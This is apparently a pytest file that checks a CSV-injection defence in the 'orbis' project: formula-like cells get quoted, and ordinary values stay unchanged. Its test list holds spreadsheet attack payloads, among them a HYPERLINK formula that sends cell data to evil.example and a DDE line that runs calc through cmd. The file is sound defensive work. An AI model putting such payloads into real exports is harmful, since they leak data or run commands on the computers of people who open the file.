"""CSV cells that a spreadsheet would run as formulas are neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from orbis.kernel.tabular import SafeCsvWriter, safe_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+49 30 901820", "-12.5", "(030) 901-820", "Müller", "a=b", "", 42, None]
)
def test_numbers_phones_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_every_cell_it_writes() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerows([["field", "value"], ["family_name", ATTACKS[0]]])

    rows = list(csv.reader(io.StringIO(out.getvalue())))

    assert rows == [["field", "value"], ["family_name", "'" + ATTACKS[0]]]


def test_no_orbis_code_writes_csv_around_the_safe_writer() -> None:
    # Exports to come (lists, reports) must go through kernel.tabular too.
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "tabular.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]

    assert not offenders, f"Write CSV with orbis.kernel.tabular.SafeCsvWriter: {offenders}"
